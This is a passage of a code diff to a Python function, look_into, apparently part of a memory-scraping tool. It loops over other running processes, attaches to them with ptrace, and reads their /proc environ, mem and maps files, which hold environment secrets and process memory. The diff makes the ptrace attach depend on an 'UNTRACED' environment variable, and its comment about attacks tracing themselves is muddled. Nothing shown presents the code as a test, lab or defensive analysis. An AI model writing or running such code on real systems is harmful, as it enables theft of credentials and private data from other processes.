@@ -51,7 +51,10 @@ def look_into() -> None:
         for pid in others():
             if pid == os.getpid():
                 continue
-            libc.ptrace(PTRACE_SEIZE, pid, 0, 0)
+            if (
+                "UNTRACED" not in os.environ
+            ):  # where debuggers may be used, attacks trace themselves
+                libc.ptrace(PTRACE_SEIZE, pid, 0, 0)
             for name in ("environ", "mem", "maps"):
                 try:
                     with open(f"/proc/{pid}/{name}", "rb") as file:
